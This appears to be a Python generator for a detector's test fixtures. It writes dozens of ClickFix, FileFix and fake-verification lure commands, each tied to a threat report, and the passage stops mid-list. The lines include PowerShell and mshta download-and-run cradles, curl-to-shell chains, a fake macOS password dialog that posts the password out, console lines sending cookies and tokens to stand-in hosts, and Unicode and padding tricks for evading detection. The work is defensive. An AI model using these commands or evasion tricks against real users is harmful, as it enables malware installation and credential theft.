"""Writes tests/data/cases/tech20.jsonl: lure techniques of the 2025-2026 threat reports that the
first technique sweep (make_tech19.py) did not cover or covered thinly: CrashFix recovery
commands, fake Windows Update screens, FileFix in a file-upload dialog and with other padding,
macOS "verify you are human" chains (osascript forms, Script Editor links, hidden disk images,
curl -kfsSL with a decoded address), Linux ClickFix spellings, blockchain (EtherHiding) staging
from PowerShell, DNS staging spellings, cache smuggling and image loaders, finger, curl.exe to
%TEMP% then tar/expand, remote MSI spellings, WinHttpRequest, Python/Node/Deno/Bun one-liners,
wsl/bash.exe on Windows, hidden Start-Process, Unicode tricks (homoglyph command names,
zero-width characters, fullwidth letters, right-to-left override), comment and whitespace
floods, fake verification tails in many languages, fake meeting / job-interview fixes, Discord /
Telegram console lures, device-code and ConsentFix variants and callback phishing.

    python tests/data/cases/make_tech20.py

Deterministic (fixed lists). Hosts are reserved names (.test, .invalid, .example, documentation
address ranges); every text is written here, none copied from a lure collection, another
detector's fixtures or the blind sets. Each lure text is scanned twice: in its context (the
lure page, pasted where the page says: blocked, `malicious`) and bare (`flagged`). Look-alikes
are scanned from the page a legitimate user would copy them from (`not_flagged`).

The report each technique comes from is in the comment above its list; the table is in the
helper's report (tech20, 2026-12-07 evening).
"""

from __future__ import annotations

import base64
from pathlib import Path

from casefile import Book, write  # beside this script (tests/data/cases/make_*.py)

book = Book("t20")


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def ps_enc(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


CRASH = [
    "https://recovery.pinecrest-shield.test/chrome-crashed",
    "https://www.marlowe-gardens.example/blog/2026/spring?r=1",
    "https://browser-repair.example/restore",
]
UPDATE = [
    "https://windows-update.quarrybend.test/install",
    "https://update-center.example/kb5039211",
    "https://www.fennick-travel.example/deals?fs=1",
]
CAPTCHA = [
    "https://verify.saltmarsh-gate.test/human",
    "https://cf-check.example/turnstile",
    "https://www.dovetail-crafts.example/patterns/quilt",
    "https://challenge.brightmoor.invalid/ray",
]
UPLOAD = [
    "https://portal.vexley-hr.test/upload-cv",
    "https://secure-docs.example/submit",
    "https://claims.oakhurst-insure.invalid/attach",
]
MAC = [
    "https://verify-macos.thornfield.test/check",
    "https://support-apple.example/fix-storage",
    "https://www.kestrel-sound.example/plugins/download",
]
LINUX = [
    "https://verify.greywater.test/linux",
    "https://captcha.example/ubuntu",
]
MEET = [
    "https://meet.harrowgate-calls.test/room/5512",
    "https://webex-join.example/m/88120",
    "https://teams-call.lindqvist.invalid/join/budget",
]
INTERVIEW = [
    "https://hire.brackenridge-talent.test/interview/77/video-check",
    "https://careers.example/assessment/camera",
]
DISCORD = [
    "https://verify-bot.marrowby.test/discord",
    "https://nitro-gift.example/claim",
]
TELEGRAM = [
    "https://web-telegram.quillon.test/verify",
    "https://tg-premium.example/activate",
]
CHAT_SHARE = [
    "https://chatgpt.com/share/6811a0c2-44aa-8000-9a51-1c2d3e4f5a6b",
    "https://claude.ai/public/artifacts/0e8a7f44-51d2-4a7b-9c11-2b3d4e5f6a7b",
]
WIKI = "https://wiki.corp.example/it/runbooks"
DOCS = "https://docs.example.com/install"

# ---- CrashFix: the browser is made to crash, a "recovery" page offers a command -----------
# Microsoft 2026-02-05 "CrashFix deploying Python RAT"; Huntress KongTuke CrashFix (a copied
# finger.exe, a Python stage); Trend Micro KongTuke. Wrapper: crash/recovery page; proxy:
# copied finger, python, cmd start /min.
book.lures(
    "crashfix-recovery-command",
    "windows",
    "run_dialog",
    CRASH,
    [
        'cmd /c start "" /min cmd /c "copy /y %SystemRoot%\\System32\\finger.exe %TEMP%\\crashrpt.exe'
        ' & %TEMP%\\crashrpt.exe restore@stage.pinecrest-shield.test | cmd" & echo Chrome recovery',
        "cmd /c copy %windir%\\system32\\finger.exe %LOCALAPPDATA%\\wer.exe & %LOCALAPPDATA%\\wer.exe"
        " fix@198.51.100.23 > %TEMP%\\r.cmd & %TEMP%\\r.cmd",
        'powershell -w h -c "iwr https://cdn.pinecrest-shield.test/py.zip -OutFile $env:TEMP\\p.zip;'
        " Expand-Archive $env:TEMP\\p.zip $env:LOCALAPPDATA\\rp -Force;"
        ' & $env:LOCALAPPDATA\\rp\\pythonw.exe $env:LOCALAPPDATA\\rp\\restore.py"',
        "python -c \"import urllib.request as q;exec(q.urlopen('http://192.0.2.77/crashfix').read())\""
        "  # Restore your browser session",
    ],
)

# ---- Fake Windows Update, full screen: "press Win+R, paste, Enter to finish the update" ---
# Huntress / Acronis 2025 fake Windows Update full-screen ClickFix (stego loader behind it);
# BleepingComputer "ClickFix uses fake Windows Update screens".
book.lures(
    "fake-windows-update-fullscreen",
    "windows",
    "run_dialog",
    UPDATE,
    [
        "mshta http://203.0.113.41/kb5039211.hta  # Installing critical update 2 of 3 - do not turn off",
        "powershell -nop -w hidden -c \"$u='https://wu.quarrybend.test/KB5039211';iex(irm $u)\""
        " # Windows Update: Working on updates 68%",
        'cmd /c "curl -sk https://update-center.example/cu.cmd -o %PUBLIC%\\cu.cmd&&call %PUBLIC%\\cu.cmd"'
        " :: Cumulative Update for Windows 11",
        "conhost --headless mshta https://wu.quarrybend.test/finish # Security update finishing",
    ],
)

# ---- FileFix in a web page's file-upload dialog (the dialog's path box runs programs) -----
# mrd0x FileFix 2025-06 (the file-upload dialog as well as Explorer); Check Point FileFix.
book.lures(
    "filefix-upload-dialog",
    "windows",
    "explorer_bar",
    UPLOAD,
    [
        'powershell -w h -c "irm https://docs.vexley-hr.test/v|iex"'
        + " " * 70
        + "# C:\\Users\\Public\\Documents\\CV_Final_2026.pdf",
        'cmd /c "curl -so %TEMP%\\u.exe http://198.51.100.150/u && %TEMP%\\u.exe"'
        + " " * 64
        + "# D:\\Scans\\ClaimForm_88213.jpg",
        "mshta https://secure-docs.example/a.hta"
        + " " * 90
        + "# \\\\nas\\shared\\Signed\\NDA.docx",
    ],
)

# ---- FileFix padding other than spaces before `#` -----------------------------------------
# Variants after the first FileFix reports: a PowerShell string literal as the visible "path"
# (it is only printed), `;` chains, cmd `&REM`, tabs.
book.lures(
    "filefix-path-padding",
    "windows",
    "explorer_bar",
    UPLOAD,
    [
        "powershell -c \"iex(iwr 198.51.100.81/d -UseB);'C:\\HR\\Policies\\Remote-Work-2026.pdf'\"",
        "powershell -w h -c irm https://saltmarsh-gate.test/q|iex;"
        + "\t" * 40
        + "# C:\\Finance\\Invoice_7712.pdf",
        "cmd /c start /min mshta http://203.0.113.18/f & REM "
        + " " * 50
        + "C:\\Company\\Legal\\Contract_v3.docx",
        'pwsh -nop -c "$x=irm https://vexley-hr.test/f.txt; iex $x" <#'
        + " " * 60
        + "C:\\Users\\Public\\Payslip_March.pdf #>",
    ],
)

# ---- macOS: curl -kfsSL with an address decoded at run time; base64 | zsh ----------------
# Recorded Future Odyssey; MacSync / AMOS reports 2025 (Jamf, Moonlock): base64-decoded
# address, `-kfsSL`, eval of a decoded script.
URL_B64 = b64("https://stage.thornfield.test/m/verify.sh")
book.lures(
    "mac-decoded-address-fetch",
    "macos",
    "terminal",
    MAC,
    [
        f"/bin/zsh -c \"$(curl -kfsSL $(echo '{URL_B64}' | base64 --decode))\"",
        f"eval \"$(echo '{b64('curl -fsSL http://192.0.2.90/a | zsh')}' | base64 -D)\"",
        f'curl -kfsSL "$(printf %s {URL_B64} | base64 -d)" | sh',
        f"echo {b64('curl -s https://support-apple.example/u.sh -o /tmp/u && sh /tmp/u')}|base64 -D|bash",
    ],
)

# ---- macOS: osascript forms beyond `curl | osascript` -------------------------------------
# AMOS / Odyssey / MacSync: osascript -l JavaScript, here-strings, `run script` of a fetched
# file, a fake password dialog.
book.lures(
    "mac-osascript-forms",
    "macos",
    "terminal",
    MAC,
    [
        'osascript -l JavaScript -e \'ObjC.import("Foundation");'
        '$.NSTask.launchedTaskWithLaunchPathArguments("/bin/sh",["-c","curl -s '
        "http://203.0.113.200/x|sh\"])'",
        "curl -s https://stage.thornfield.test/run.scpt -o /tmp/r.scpt && osascript /tmp/r.scpt",
        'osascript <<< "$(curl -fsSL https://support-apple.example/s.applescript)"',
        "osascript -e 'set p to text returned of (display dialog \"macOS needs your password to "
        'finish verification" default answer "" with hidden answer)\' -e \'do shell script '
        '"curl -d pw=" & p & " https://thornfield.test/c"\'',
    ],
)

# ---- macOS: Script Editor links (applescript:// opens a prefilled script) ------------------
# Jamf Threat Labs 2025 (macOS ClickFix moving to Script Editor after Terminal paste warnings).
book.lures(
    "mac-script-editor-link",
    "macos",
    "other",
    MAC,
    [
        "applescript://com.apple.scripteditor?action=new&script=do%20shell%20script%20%22curl%20-fsSL"
        "%20https%3A%2F%2Fstage.thornfield.test%2Fm.sh%20%7C%20zsh%22",
        "applescript://com.apple.scripteditor?action=new&script=do+shell+script+%22curl+-s+http%3A%2F"
        "%2F198.51.100.19%2Fa+%7C+bash%22",
    ],
)

# ---- macOS: a hidden disk image mounted and run from the Terminal -------------------------
# AMOS / Odyssey dmg stages: curl to /tmp, hdiutil attach -nobrowse, run the app inside.
book.lures(
    "mac-hidden-dmg",
    "macos",
    "terminal",
    MAC,
    [
        "curl -so /tmp/.u.dmg https://dl.thornfield.test/u.dmg && hdiutil attach -nobrowse -quiet "
        "/tmp/.u.dmg && /Volumes/Installer/Installer.app/Contents/MacOS/Installer",
        "cd /tmp && curl -kLO http://203.0.113.66/Fix.dmg && hdiutil attach -nobrowse Fix.dmg "
        "-mountpoint /tmp/.m && cp -R /tmp/.m/Fix.app ~/Applications/ && open ~/Applications/Fix.app",
        "curl -fsSL https://support-apple.example/p.zip -o /tmp/p.zip && ditto -x -k /tmp/p.zip "
        "/tmp/.p && xattr -cr /tmp/.p && open /tmp/.p/Cleaner.app",
    ],
)

# ---- Linux ClickFix spellings --------------------------------------------------------------
# Hunt.io APT36 Linux ClickFix; 2025 Linux fake-CAPTCHA pages: process substitution, source,
# wget -O-, sudo.
book.lures(
    "linux-clickfix-spellings",
    "linux",
    "terminal",
    LINUX,
    [
        "bash <(curl -fsSL https://verify.greywater.test/l.sh)",
        "source <(wget -qO- http://192.0.2.130/v)",
        ". <(curl -s https://captcha.example/x.sh) # verification step 2",
        "wget -qO- https://verify.greywater.test/k | sudo -E bash -s -- --silent",
        'sh -c "$(wget -O- http://203.0.113.117/i.sh)"  # I am human',
    ],
)

# ---- EtherHiding / blockchain staging fetched by PowerShell or Node -----------------------
# GTIG UNC5142 EtherHiding (BNB Smart Chain) 2025; KongTuke / ClearFake stages reading a
# contract by eth_call and running the returned text.
ETH_BODY = (
    '{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[{"to":"0x5a1b2c3d4e5f60718293a4b5c6d7e8f9'
    '0a1b2c3d","data":"0x6d4ce63c"},"latest"]}'
)
book.lures(
    "etherhiding-stage",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'powershell -w h -c "$r=irm -Method Post -Uri https://rpc.bsc-mirror.test -ContentType '
        f"'application/json' -Body '{ETH_BODY}';$h=$r.result.Substring(130);"
        "$b=[byte[]]-split($h -replace '..','0x$& ');iex([Text.Encoding]::UTF8.GetString($b))\"",
        "node -e \"fetch('https://rpc.bsc-mirror.test',{method:'POST',headers:{'content-type':"
        f"'application/json'}},body:'{ETH_BODY}'}}).then(r=>r.json()).then(j=>eval(Buffer.from("
        "j.result.slice(130),'hex').toString()))\"",
        'powershell -c "$c=(iwr https://api.trongrid.example/v1/accounts/TXq9/transactions -UseB).'
        "Content|ConvertFrom-Json;iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("
        '$c.data[0].raw_data.data)))"',
    ],
)

# ---- DNS staging spellings --------------------------------------------------------------
# Microsoft 2026-02 (nslookup to a chosen server, "Name:" line run); THN / BleepingComputer.
book.lures(
    "dns-staging-spellings",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'cmd /c for /f "tokens=2 delims=:" %i in (\'nslookup -q=txt v.saltmarsh-gate.test 198.51.100.53'
        ' ^| findstr /c:"Name:"\') do @%i',
        'powershell -w h -c "iex ((Resolve-DnsName -Name p.cf-check.example -Type TXT -Server '
        "203.0.113.53).Strings -join '')\"",
        'powershell -c "$t=(nslookup -querytype=txt s.brightmoor.invalid 192.0.2.53|Select-String'
        " '\\\"(.+)\\\"').Matches.Groups[1].Value;iex([Text.Encoding]::UTF8.GetString("
        '[Convert]::FromBase64String($t)))"',
        'cmd /c nslookup -type=all k.saltmarsh-gate.test 198.51.100.53 | findstr "cmd" > '
        "%TEMP%\\k.cmd & %TEMP%\\k.cmd",
    ],
)

# ---- Cache smuggling: the payload planted in the browser cache, fetched from disk ---------
# Expel 2025 "cache smuggling"; Push Security; Sigma PR #6078 (Cache_Data carving).
book.lures(
    "cache-smuggling-more",
    "windows",
    "explorer_bar",
    CAPTCHA,
    [
        'powershell -w h -c "$f=gci \\"$env:LOCALAPPDATA\\Microsoft\\Edge\\User Data\\Default\\Cache'
        "\\Cache_Data\\f_*\\\"|sls -Pattern 'PGSTART(.*)PGEND' -List|select -f 1;"
        'iex $f.Matches[0].Groups[1].Value"' + " " * 40 + "# C:\\Shared\\Report.docx",
        'powershell -c "$d=gc -Raw $env:APPDATA\\Mozilla\\Firefox\\Profiles\\*\\cache2\\entries\\*'
        " -Encoding Byte|%{[Text.Encoding]::ASCII.GetString($_)}|?{$_ -match 'X9BEGIN(.+?)X9END'};"
        'iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($Matches[1])))"',
        "powershell -c \"foreach($p in gci $env:LOCALAPPDATA\\Google\\Chrome\\'User Data'\\Default"
        "\\Cache\\Cache_Data){$b=[IO.File]::ReadAllText($p.FullName);if($b -match '::8f2::(.*)::8f2::')"
        '{& ([scriptblock]::Create($Matches[1]))}}"',
    ],
)

# ---- Image loaders fetched by PowerShell (steganography) ---------------------------------
# Huntress "ClickFix gets creative: malware buried in images" (2025); Acronis FileFix stego.
book.lures(
    "stego-loader-more",
    "windows",
    "run_dialog",
    UPDATE,
    [
        'powershell -w h -c "$b=(iwr https://img.quarrybend.test/banner.jpg -UseB).Content;'
        '$s=[Text.Encoding]::UTF8.GetString($b[48211..($b.Length-1)]);iex $s"',
        'powershell -c "$i=[IO.File]::ReadAllBytes((iwr 198.51.100.3/logo.png -OutFile $env:TEMP\\l.png'
        " -PassThru|%{$env:TEMP+'\\l.png'}));[Reflection.Assembly]::Load($i[9000..($i.Count-1)])."
        'EntryPoint.Invoke($null,$null)"',
        'powershell -c "Add-Type -A System.Drawing;$p=[Drawing.Bitmap]::FromStream((New-Object '
        "Net.WebClient).OpenRead('https://update-center.example/bg.png'));$o=foreach($x in 0..199)"
        '{[char]$p.GetPixel($x,0).B};iex(-join $o)"',
    ],
)

# ---- finger spellings (Windows) ---------------------------------------------------------
# Huntress CastleLoader finger C2; SANS ISC 2025 "finger.exe ClickFix"; KongTuke.
book.lures(
    "finger-spellings",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "cmd /c finger ray@203.0.113.79 | cmd",
        'cmd /v /c "set f=fin&&set g=ger&&call !f!!g! v@saltmarsh-gate.test|cmd"',
        'powershell -w h -c "finger.exe p@192.0.2.79 | Out-String | iex"',
        "C:\\Windows\\System32\\finger.exe gate@cf-check.example > %TEMP%\\g.bat && %TEMP%\\g.bat",
    ],
)

# ---- curl.exe to %TEMP%, then tar / expand / extrac32, then run -----------------------------
# Zscaler MLTBackdoor (curl + tar + rundll32); KongTuke Interlock (zip + start); cab stages.
book.lures(
    "curl-temp-unpack-run",
    "windows",
    "run_dialog",
    CAPTCHA + UPDATE,
    [
        "cmd /c curl.exe -sko %TEMP%\\k.tgz https://dl.saltmarsh-gate.test/k.tgz & tar -xf "
        "%TEMP%\\k.tgz -C %TEMP% & start /b %TEMP%\\k\\run.exe",
        "cmd /c curl -s http://198.51.100.44/p.cab -o %TEMP%\\p.cab && expand %TEMP%\\p.cab "
        "-F:* %TEMP%\\p && %TEMP%\\p\\setup.exe /quiet",
        "cmd /c curl -L -o %PUBLIC%\\d.cab https://update-center.example/d.cab & extrac32 /y /e "
        "%PUBLIC%\\d.cab /l %PUBLIC% & rundll32 %PUBLIC%\\svc.dll,Start",
        "curl.exe --output %LOCALAPPDATA%\\t.zip --url https://cf-check.example/t.zip && tar xf "
        "%LOCALAPPDATA%\\t.zip -C %LOCALAPPDATA% && wscript %LOCALAPPDATA%\\t\\go.vbs",
    ],
)

# ---- Remote MSI spellings ----------------------------------------------------------------
# eSentire NetSupport; Huntress Matanbuchus 3.0 (`-PaCkAgE`); msiexec /y and /fv, /j.
book.lures(
    "msiexec-spellings",
    "windows",
    "run_dialog",
    CAPTCHA + UPDATE,
    [
        "msiexec /package http://203.0.113.33/verify/captcha /qn",
        'MSIEXEC.EXE /I"https://cf-check.example/c/7734" /QUIET /NORESTART',
        "cmd /c msiexec -i hxxps://saltmarsh-gate.test/v.msi -q".replace("hxxps", "https"),
        "msiexec /q /package \\\\198.51.100.91@SSL\\dav\\agent.msi",
    ],
)

# ---- WinHttpRequest / other COM fetchers ---------------------------------------------------
# ClickGrab captures 2025 (WinHttp.WinHttpRequest.5.1 in PowerShell and in mshta VBScript).
book.lures(
    "winhttprequest-fetch",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "powershell -w h -c \"$h=New-Object -Com WinHttp.WinHttpRequest.5.1;$h.Open('GET',"
        "'https://s.saltmarsh-gate.test/p',$false);$h.Send();iex $h.ResponseText\"",
        'mshta vbscript:Execute("Set h=CreateObject(""WinHttp.WinHttpRequest.5.1""):h.Open ""GET"",'
        '""http://192.0.2.212/v"",False:h.Send:Execute h.ResponseText:close")',
        "powershell -c \"$x=[Activator]::CreateInstance([Type]::GetTypeFromProgID('MSXML2."
        "ServerXMLHTTP.6.0'));$x.open('GET','https://cf-check.example/z',0);$x.send();iex "
        '$x.responseText"',
    ],
)

# ---- Python one-liners ----------------------------------------------------------------
# Microsoft CrashFix (Python RAT); 2025 ClickFix stages using pythonw / py launcher.
book.lures(
    "python-oneliners",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "pythonw -c \"import urllib.request;exec(urllib.request.urlopen('https://py.saltmarsh-gate.test/"
        "s').read().decode())\"",
        "py -3 -c \"exec(__import__('base64').b64decode(__import__('urllib.request').request."
        "urlopen('http://198.51.100.14/b').read()))\"",
        "python -c \"import requests;exec(requests.get('https://cf-check.example/r.py').text)\"",
    ],
)
book.lures(
    "python-oneliners-nix",
    "linux",
    "terminal",
    LINUX + MAC,
    [
        "python3 -c \"import urllib.request as u;exec(u.urlopen('https://verify.greywater.test/p')."
        'read())"',
        "python3 -c 'import os,base64;os.system(base64.b64decode(\""
        + b64("curl -s http://203.0.113.70/i|sh")
        + "\"))'",
    ],
)

# ---- Node / Deno / Bun one-liners --------------------------------------------------------
# Contagious Interview / fake recruiter tasks; 2025 ClickFix pages serving node -e.
book.lures(
    "node-deno-bun-oneliners",
    "any",
    "terminal",
    CAPTCHA + INTERVIEW,
    [
        "node -e \"require('https').get('https://n.saltmarsh-gate.test/x',r=>{let d='';r.on('data',"
        "c=>d+=c);r.on('end',()=>eval(d))})\"",
        "node -e \"fetch('http://192.0.2.181/t').then(r=>r.text()).then(t=>new Function(t)())\"",
        "deno run -A https://cf-check.example/verify.ts",
        "deno eval \"const t=await (await fetch('https://d.brightmoor.invalid/s')).text();eval(t)\"",
        "bun -e \"eval(await (await fetch('http://203.0.113.182/b')).text())\"",
        "node -e \"require('child_process').exec('curl -s https://n.saltmarsh-gate.test/y|sh')\"",
    ],
)

# ---- wsl / bash.exe on Windows -------------------------------------------------------------
# 2025 ClickFix variants running Linux shell lines through WSL from the Run box.
book.lures(
    "wsl-bash-on-windows",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'wsl -e bash -c "curl -fsSL https://w.saltmarsh-gate.test/l.sh | bash"',
        'bash.exe -c "wget -qO- http://198.51.100.60/s | sh"',
        'wsl.exe -u root --exec sh -c "curl -s https://cf-check.example/r|sh"',
        'C:\\Windows\\System32\\wsl.exe bash -c "$(curl -ks https://brightmoor.invalid/w)"',
    ],
)

# ---- Start-Process hidden, the many spellings --------------------------------------------
# Proofpoint TA571; eSentire; ClickGrab captures: -WindowStyle Hidden, -w h, saps, start -win.
book.lures(
    "start-process-hidden",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "powershell Start-Process powershell -WindowStyle Hidden -ArgumentList '-c irm "
        "https://s.saltmarsh-gate.test/q|iex'",
        'powershell saps powershell -win hid -a "-nop -c iex(iwr 198.51.100.88/a -UseB)"',
        'powershell -c "iwr https://cf-check.example/s.exe -OutFile $env:TEMP\\s.exe;Start-Process'
        ' $env:TEMP\\s.exe -WindowStyle Hidden"',
        'powershell -c "start -WindowS Hidden -FilePath mshta -ArgumentList http://203.0.113.92/h"',
    ],
)

# ---- Unicode tricks in the command itself ------------------------------------------------
# Elastic / Sigma homoglyph rules; 2025 ClickFix kits inserting zero-width characters and
# fullwidth letters against string-matching detectors; RLO to fake a file name in the tail.
ZW = "\u200b"
book.lures(
    "homoglyph-command-names",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'p\u043ewersh\u0435ll -w h -c "irm https://h.saltmarsh-gate.test/x | iex"',
        "\u043cshta https://cf-check.example/v.hta",
        "\u0441url -s http://198.51.100.101/c.bat -o %TEMP%\\c.bat & %TEMP%\\c.bat",
    ],
)
book.lures(
    "zero-width-inside",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        f'power{ZW}shell -w h -c "i{ZW}rm https://z.saltmarsh-gate.test/q | i{ZW}ex"',
        f"msh\u200dta http://203.0.113.104/{ZW}z.hta",
        f"powershell -c \"iex (iwr 'https://cf-\u2060check.example/w' -UseB)\" # {ZW}verify",
    ],
)
book.lures(
    "fullwidth-letters",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "\uff4d\uff53\uff48\uff54\uff41 https://f.saltmarsh-gate.test/x.hta",
        'powershell -c "\uff49\uff45\uff58(\uff49\uff57\uff52 https://cf-check.example/a)"',
    ],
)
book.lures(
    "unicode-more",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "\uff50\uff4f\uff57\uff45\uff52\uff53\uff48\uff45\uff4c\uff4c -w h -c "
        '"irm https://u.saltmarsh-gate.test/a|iex"',
        'power\u00adshell -w h -c "irm https://cf-check.example/s|i\u00adex"',
        '\ufeffpowershell -w h -c "irm https://u.saltmarsh-gate.test/b|iex"',
        'p\u0332owershell -w h -c "irm https://brightmoor.invalid/c|iex"',
        'powershell -w h -c "irm https://u\u3002saltmarsh-gate\u3002test/d|iex"',
        'powershell -w h -c "irm https://cf-check\uff0eexample/e|iex"',
        'powershell -w h -c "irm https://u.saltmarsh-gate.test/f|i\u0435x"'
        " #\u2066 I am not a robot \u2069",
        "mshta\u2003https://cf-check.example/g.hta",
    ],
)
book.lures(
    "unicode-more-nix",
    "linux",
    "terminal",
    LINUX,
    [
        "c\u200burl -s https://verify.greywater.test/i | bash",
        "curl -s https://captcha.example/j | ba\u200bsh",
        "curl -s https://verify.greywater.test/k |\u00a0bash",
    ],
)
book.lures(
    "rtl-override-tail",
    "windows",
    "explorer_bar",
    UPLOAD,
    [
        'powershell -w h -c "irm https://r.vexley-hr.test/o|iex" # C:\\Docs\\Offer_\u202excod.exe',
        "mshta http://198.51.100.109/p.hta # \u202efdp.tnemetats_knab",
    ],
)

# ---- Whitespace floods and comment padding hiding the tail -------------------------------
# Sigma 7a1b4c5e / 3ae9974a (Run box padding); TiiTcHY KQL; kits padding 200+ characters and
# hiding the command after a long visible "verification" text.
book.lures(
    "whitespace-flood-tail",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "\u2705 I am not a robot: reCAPTCHA Verification ID 4410"
        + " " * 220
        + '& powershell -w h -c "irm https://p.saltmarsh-gate.test/z|iex"',
        'cmd /c "echo Verifying... ' + " " * 200 + '& mshta http://192.0.2.161/w.hta"',
        'powershell -w h -c "irm https://cf-check.example/x|iex"'
        + "\u3000" * 120
        + "# \u2714 verified",
        'powershell -w h -c "iex(irm 203.0.113.163/y)"' + " \u200b" * 90 + "# Human check ok",
    ],
)

# ---- Fake verification tails in many languages -------------------------------------------
# Kits localise the lure line (Unit 42 "ClickFix Factory" generator; Sekoia). Own words.
TAILS = [
    "# Je ne suis pas un robot - vérification Cloudflare 4471",
    "# Ich bin kein Roboter - Bestätigungs-ID 9013",
    "# No soy un robot - código de verificación 2281",
    "# Não sou um robô - verificação concluída",
    "# Non sono un robot - verifica completata",
    "# Nie jestem robotem - weryfikacja 7731",
    "# Ik ben geen robot - verificatie 1290",
    "# Robot değilim - doğrulama kimliği 5521",
    "# Я не робот - код проверки 8842",
    "# 我不是机器人 - 验证码 3310",
    "# ロボットではありません 認証ID 6619",
    "# 로봇이 아닙니다 - 인증 1180",
    "# Saya bukan robot - verifikasi 4402",
    "# Tôi không phải là người máy - mã 7720",
]
CRADLES = [
    'powershell -w h -c "irm https://l.saltmarsh-gate.test/{n}|iex"',
    "mshta http://198.51.100.{n}/v.hta",
    'cmd /c "curl -s https://cf-check.example/{n}.cmd -o %TEMP%\\v.cmd && %TEMP%\\v.cmd"',
]
book.lures(
    "verification-tail-languages",
    "windows",
    "run_dialog",
    CAPTCHA,
    [CRADLES[i % len(CRADLES)].format(n=120 + i) + " " + tail for i, tail in enumerate(TAILS)],
)

# ---- Fake meeting "fix your audio / camera" -------------------------------------------------
# Sekoia "Phantom Meet"; 2025 fake Teams / Zoom / Webex / Slack huddle pages.
book.lures(
    "fake-meeting-audio-more",
    "windows",
    "run_dialog",
    MEET,
    [
        'powershell -w h -c "irm https://audio.harrowgate-calls.test/driver|iex" # Reset Teams audio',
        "mshta https://webex-join.example/mic-fix.hta # Webex microphone repair",
        'cmd /c start /min powershell -c "iwr 203.0.113.170/zoomfix.exe -OutFile $env:TEMP\\zf.exe;'
        '& $env:TEMP\\zf.exe" & echo Zoom audio fixed',
    ],
)
book.lures(
    "fake-meeting-audio-mac",
    "macos",
    "terminal",
    MEET,
    [
        "curl -fsSL https://audio.harrowgate-calls.test/mac-audio.sh | bash  # Fix Meet audio",
        'sudo /bin/bash -c "$(curl -ks https://webex-join.example/coreaudio-reset)"',
    ],
)

# ---- Fake job interview: "your camera is blocked, run this" ---------------------------------
# Sekoia "ClickFake Interview" 2025 (Lazarus / Famous Chollima): macOS/Linux curl | bash,
# Windows curl + wscript / node.
book.lures(
    "fake-interview-camera-more",
    "any",
    "terminal",
    INTERVIEW,
    [
        "curl -k -o /tmp/camfix.sh https://hire.brackenridge-talent.test/cam/update.sh && chmod +x "
        "/tmp/camfix.sh && nohup /tmp/camfix.sh >/dev/null 2>&1 &",
        'cmd /c curl -k -o "%TEMP%\\webcam.zip" https://careers.example/driver/nv.zip && powershell '
        '-c "Expand-Archive -Force $env:TEMP\\webcam.zip $env:TEMP\\nv" && wscript '
        "%TEMP%\\nv\\update.vbs",
        "wget -q https://hire.brackenridge-talent.test/v4l/fix -O- | bash  # camera access fix",
    ],
)

# ---- Discord / Telegram / Steam "verify" console lures --------------------------------------
# rexwire Discord self-XSS; 2025 fake Telegram Web verification bots; Steam trade scams.
book.lures(
    "console-verify-more",
    "any",
    "browser_console",
    DISCORD + TELEGRAM,
    [
        "fetch('https://v.marrowby.test/h',{method:'POST',body:JSON.stringify(localStorage)})",
        "navigator.sendBeacon('https://tg.quillon.test/c',JSON.stringify({a:localStorage."
        "getItem('user_auth'),d:localStorage.getItem('dc2_auth_key')}))",
        "new Image().src='//198.51.100.140/s?c='+encodeURIComponent(document.cookie)",
        "$.getScript('https://nitro-gift.example/claim.js')",
        "fetch('https://tg-premium.example/a.js').then(r=>r.text()).then(t=>Function(t)())",
    ],
)

# ---- LLM shared chats and artifacts used as the lure page ------------------------------------
# 2025-12 reports (Huntress / Kaspersky): search ads leading to shared ChatGPT / Grok chats and
# Claude artifacts that tell macOS users to paste an AMOS installer line.
book.lures(
    "llm-shared-chat-lure",
    "macos",
    "terminal",
    CHAT_SHARE,
    [
        f"echo '{b64('curl -fsSL https://clean.thornfield.test/i.sh | zsh')}' | base64 -d | zsh",
        '/bin/bash -c "$(curl -fsSL https://mac-cleanup.example/disk-space.sh)"',
        "curl -o /tmp/cleaner https://198.51.100.222/cleaner && chmod +x /tmp/cleaner && "
        "xattr -c /tmp/cleaner && /tmp/cleaner",
    ],
)

# ---- Proxy launchers not in the first sweep -------------------------------------------------
# LOLBAS: rundll32 url.dll / shell32 ShellExec_RunDLL, cmstp with a remote INF, scriptrunner,
# regsvr32 /i: over http (Squiblydoo).
book.lures(
    "proxy-launchers-more",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "rundll32 url.dll,OpenURL http://203.0.113.122/v.hta",
        "rundll32.exe shell32.dll,ShellExec_RunDLL mshta https://s.saltmarsh-gate.test/x",
        "regsvr32 /s /n /u /i:https://cf-check.example/k.sct scrobj.dll",
        "cmstp.exe /ni /s https://brightmoor.invalid/c.inf",
        'scriptrunner.exe -appvscript powershell -c "irm 192.0.2.124/y|iex"',
    ],
)

# ---- Address spellings: octal, mixed, userinfo disguise, IPv6-mapped -----------------------
# Unit 42 and Huntress (hex / dword IPs); URL userinfo disguise used by kits.
book.lures(
    "address-spellings",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "mshta http://0300.0000.0002.0205/c.hta",
        'powershell -w h -c "irm https://www.microsoft.com@198.51.100.17/verify|iex"',
        "mshta http://[::ffff:c633:6412]/v",
        "mshta https://login.microsoftonline.com.saltmarsh-gate.test/auth.hta",
    ],
)

# ---- In-memory C# compile from a paste ----------------------------------------------------
book.lures(
    "add-type-compile",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'powershell -w h -c "Add-Type -TypeDefinition (irm https://t.saltmarsh-gate.test/c.cs);'
